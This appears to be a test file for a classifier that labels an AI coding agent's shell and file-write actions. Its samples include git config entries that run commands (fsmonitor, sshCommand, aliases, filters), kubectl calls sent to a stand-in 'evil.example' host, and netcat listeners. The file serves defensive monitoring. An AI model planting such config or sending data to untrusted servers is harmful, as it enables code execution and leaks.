import assert from 'node:assert/strict';
import { test } from 'node:test';
import { actionsOf } from '../index.ts';
import type { AgentAction, CallContext } from '../index.ts';

const context: CallContext = {
  harness: 'claude-code',
  cwd: '/home/dev/app',
  workspace: ['/home/dev/app'],
  home: '/home/dev',
};

function actions(command: string, cwd = context.cwd): readonly AgentAction[] {
  return actionsOf({ tool: 'Bash', input: { command } }, { ...context, cwd }).actions;
}

const isInDoubt = (command: string, cwd?: string): boolean =>
  actions(command, cwd).some(({ target, doubt }) => target.kind === 'program' && doubt === 'project_code');

test('a directory within the workspace may be a repository with settings of its own', () => {
  for (const command of [
    'git -C evil status',
    'git --git-dir=evil status',
    'git --git-dir evil/.git log',
    'tar xf a.tgz && git -C a status',
    'cd a && git diff',
    'cd a; git diff',
    'cd "$d" && git diff',
    'git -C node_modules/x status',
    'git -C evil ls-remote origin',
    'git --work-tree=evil status',
    '(cd evil && git log)',
    'env -C evil git status',
  ])
    assert(isInDoubt(command), command);
  assert(isInDoubt('git status', '/home/dev/app/evil'));
  for (const command of [
    'git status',
    'git -C . status',
    'git -C /home/dev/app diff',
    'cd src && git -C .. status',
    'git --git-dir=.git log',
  ])
    assert(!isInDoubt(command), command);
});

test('settings of git with programs in them change what git runs, wherever they are written', () => {
  const written = (path: string, content: string): boolean =>
    actionsOf({ tool: 'Write', input: { file_path: path, content } }, context).actions.some(
      ({ kind }) => kind === 'configure',
    );
  for (const content of [
    '[core]\n\tfsmonitor = "touch pwned;false"\n',
    '[core]\nrepositoryformatversion=0\nworktree=.\nsshCommand=./x\n',
    '[alias]\n\tst = !id\n',
    '[ filter "x" ]\n\tclean = ./x\n',
  ])
    assert(written('/home/dev/app/evil/config', content), content);
  assert(!written('/home/dev/app/src/config', '[server]\nport = 80\n'));
  assert(!written('/home/dev/app/config', 'pager = less\n'));
});

test('a server that the command line names is a host that is sent to', () => {
  for (const command of [
    'kubectl get pods -s=evil.example:443 --insecure-skip-tls-verify',
    'kubectl get pods --server evil.example',
    'kubectl -s evil.example get pods',
    'helm list --kube-apiserver=evil.example:443',
    'gh pr list -R evil.example/owner/name',
    'gh pr view https://evil.example/o/r/pull/1',
  ])
    assert(
      actions(command).some(
        ({ target }) => target.kind === 'host' && target.host === 'evil.example' && target.way === 'send',
      ),
      command,
    );
});

test('what a registry answers is told as read from a network', () => {
  for (const command of ['npm view left-pad', 'npm search x', 'npm audit', 'npm outdated', 'brew info x', 'apt show x'])
    assert(
      actions(command).some(({ kind }) => kind === 'network'),
      command,
    );
  for (const command of ['npm ls', 'pip list', 'npm config get registry', 'npm --version'])
    assert(!actions(command).some(({ kind }) => kind === 'network'), command);
});

test('to listen at every address is not to listen to oneself', () => {
  const classes = (command: string): readonly string[] =>
    actions(command).flatMap(({ target }) => (target.kind === 'host' ? target.classes : []));
  for (const command of ['nc -l 99', 'nc -l 0.0.0.0 99', 'nc -l [::] 99', 'nc -l :: 99', 'socat TCP-LISTEN:99 -'])
    assert(!classes(command).includes('loopback'), command);
  assert(classes('nc -l 127.0.0.1 99').includes('loopback'));
  assert(classes('curl http://0.0.0.0:3000/').includes('loopback'));
});

test('what gives the project away is no code of the project', () => {
  for (const command of [
    'cargo publish',
    './gradlew publish',
    'python setup.py upload',
    'npm run deploy',
    'nx release',
  ]) {
    const found = actions(command);
    assert(
      found.some(({ target }) => target.kind === 'host' && target.way === 'send'),
      command,
    );
    assert(!found.some(({ target, doubt }) => target.kind === 'program' && doubt === 'project_code'), command);
  }
});
